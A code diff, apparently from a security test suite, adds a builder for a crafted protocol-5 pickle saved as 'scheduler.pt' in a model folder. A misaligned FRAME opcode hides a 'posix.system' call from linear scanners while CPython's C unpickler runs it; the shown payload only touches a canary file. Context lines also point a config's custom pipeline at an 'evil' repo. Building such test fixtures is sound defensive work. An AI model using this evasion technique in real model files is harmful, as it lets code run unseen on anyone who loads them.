@@ -639,3 +639,39 @@ def build_custom_pipelines(out_dir: Path, base: Path | None = None) -> Path:
     pipelines = {"text-generation": {"impl": "evil/repo--pipe.EvilPipeline", "pt": ["AutoModelForCausalLM"], "tf": []}}
     _edit_json_text(out_dir / "config.json", lambda config: {**config, "custom_pipelines": pipelines})
     return out_dir
+
+
+def frame_boundary_pickle(canary: Path) -> bytes:
+    """A protocol-5 pickle whose 2-byte FRAME splits a BINBYTES opcode (fickling's frame-boundary case).
+
+    Read linearly (pickletools, the pure-Python unpickler, most scanners) the BINBYTES takes 0x107 bytes
+    and swallows ``posix.system("touch canary")``, REDUCE. CPython's C unpickler reading a file cannot serve
+    the 4-byte length from the 2-byte frame, reads it from after the frame instead (01 00 00 00: one byte),
+    and then runs the hidden call. The leading 128 KiB string pushes the frame past the C unpickler's
+    read-ahead, so a buffered file reads like an unbuffered one.
+    """
+    hidden = _system_touch(Path(canary)) + b"("  # MARK: the rest of the 0x107 bytes is popped by POP_MARK
+    if len(hidden) > 261:
+        raise ValueError(f"canary path too long for the 261-byte hidden call: {canary}")
+    return b"".join(
+        [
+            b"\x80\x05",  # PROTO 5
+            b"N",  # NONE
+            b"V" + b"a" * (8192 * 16 - 17) + b"\n",  # UNICODE, 128 KiB
+            b"0",  # POP
+            b"(",  # MARK
+            b"\x95" + struct.pack("<Q", 2),  # FRAME of 2 bytes: 'B' and the first length byte
+            b"B\x07\x01\x00\x00",  # BINBYTES: 0x107 bytes read linearly; 1 byte (00) by the C unpickler
+            b"\x00\x00",
+            hidden.ljust(261, b"N"),
+            b"1",  # POP_MARK
+            b".",  # STOP
+        ]
+    )
+
+
+def build_frame_boundary(out_dir: Path, canary: Path, base: Path | None = None) -> Path:
+    """The model folder plus ``scheduler.pt`` from `frame_boundary_pickle`."""
+    out_dir = _start(out_dir, base)
+    (out_dir / "scheduler.pt").write_bytes(frame_boundary_pickle(canary))
+    return out_dir
